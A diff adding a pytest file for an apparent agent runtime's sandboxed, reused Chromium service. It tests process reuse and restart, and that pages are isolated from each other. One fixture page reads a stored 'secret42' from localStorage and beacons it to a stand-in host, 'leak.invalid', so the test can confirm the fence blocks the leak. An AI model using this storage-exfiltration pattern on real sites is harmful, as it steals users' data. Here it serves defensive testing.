@@ -1,0 +1,127 @@
+"""A runtime's kept Chromium (``tools.native.kept_browser``): one browser for every render, a new one when it
+dies, nothing of one page seen by the next, and no browser left once the runtime closes.
+
+Real Chromium in its bubblewrap jail, found the way a user's machine has it; the processes are read from /proc.
+"""
+
+from __future__ import annotations
+
+import os
+import signal
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from jarvishub.runtime import Runtime
+from tests.content.agent import submit
+from tests.system_tools import require_system_tool
+from tools.native.browser import Viewport, _fence
+from tools.native.kept_browser import KeptBrowser
+
+pytestmark = pytest.mark.usefixtures("chromium")
+
+VIEW = Viewport(width=320, height=200)
+
+
+@pytest.fixture
+def chromium() -> None:
+    require_system_tool("chromium", apt="chromium")
+    require_system_tool("bwrap", apt="bubblewrap")
+
+
+def _children() -> dict[int, list[int]]:
+    tree: dict[int, list[int]] = {}
+    for entry in Path("/proc").iterdir():
+        if entry.name.isdigit():
+            try:
+                parent = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
+            except (OSError, IndexError, ValueError):
+                continue
+            tree.setdefault(parent, []).append(int(entry.name))
+    return tree
+
+
+def browser_jails() -> list[int]:
+    """The outer bubblewrap processes this test process started (each holds one Chromium)."""
+    tree, found, todo = _children(), [], [os.getpid()]
+    while todo:
+        for child in tree.get(todo.pop(), []):
+            try:
+                name = Path(f"/proc/{child}/comm").read_text().strip()
+            except OSError:
+                continue
+            if name == "bwrap":
+                found.append(child)  # its own children are the jail's: not walked
+            else:
+                todo.append(child)
+    return sorted(found)
+
+
+def wait_until(condition: Any, what: str, limit_s: float = 20.0) -> None:
+    deadline = time.monotonic() + limit_s
+    while not condition():
+        assert time.monotonic() < deadline, what
+        time.sleep(0.1)
+
+
+def render(runtime: Runtime, path: str) -> dict[str, Any]:
+    result = submit(runtime, "render_page", path=path, width=VIEW.width, height=VIEW.height)
+    assert result.commit is not None and "error" not in result.observation, result
+    return result.observation
+
+
+def test_every_render_of_a_runtime_uses_one_chromium_a_dead_one_is_replaced_and_close_ends_it(
+        make_runtime: Any) -> None:
+    runtime: Runtime = make_runtime()
+    page = runtime.project.workspace / "kept.html"
+    page.write_text("<h1>Kept</h1>")
+    kept = runtime.services["browser"]
+    assert isinstance(kept, KeptBrowser) and browser_jails() == []  # launched on the first render, not before
+
+    first = render(runtime, "kept.html")
+    jails = browser_jails()
+    assert len(jails) == 1
+    second = render(runtime, "kept.html")
+    assert browser_jails() == jails and kept.launches == 1  # the same Chromium drew both
+    assert first["node_id"] != second["node_id"]
+
+    os.killpg(os.getpgid(jails[0]), signal.SIGKILL)  # the browser dies between two renders
+    wait_until(lambda: jails[0] not in browser_jails(), "the killed browser to go")
+    third = render(runtime, "kept.html")
+    assert third["node_id"] and kept.launches == 2 and len(browser_jails()) == 1
+
+    runtime.close()
+    wait_until(lambda: browser_jails() == [], "the runtime's browser to close with it")
+
+
+def test_a_page_rendered_after_another_cannot_read_what_the_first_one_stored(make_runtime: Any) -> None:
+    """The first page stores a secret in its origin's storage; the second reads it into a request the fence
+    blocks and reports.  Rendered in one shared browser context (the control), the secret crosses over; through
+    the kept browser, each render has a context of its own and it never does."""
+    runtime: Runtime = make_runtime()
+    workspace = runtime.project.workspace
+    (workspace / "store.html").write_text("<script>localStorage.setItem('k', 'secret42')</script><p>one</p>")
+    (workspace / "read.html").write_text(
+        "<script>new Image().src = 'http://leak.invalid/' + (localStorage.getItem('k') || 'none')</script><p>two</p>")
+    kept: KeptBrowser = runtime.services["browser"]
+    roots = [workspace]
+
+    kept.screenshot_file(workspace / "store.html", VIEW, roots)
+    second = kept.screenshot_file(workspace / "read.html", VIEW, roots)
+    assert second.blocked == ["http://leak.invalid/none"], second.blocked
+
+    def one_context_for_both(browser: Any) -> list[str]:
+        context, blocked = browser._browser.new_context(), []
+        context.route("**/*", lambda route: _fence(route, roots, blocked))
+        try:
+            for name in ("store.html", "read.html"):
+                tab = context.new_page()
+                tab.goto((workspace / name).as_uri(), wait_until="load")
+                tab.close()
+        finally:
+            context.close()
+        return blocked
+
+    assert kept._run(one_context_for_both) == ["http://leak.invalid/secret42"]  # the attack works when shared
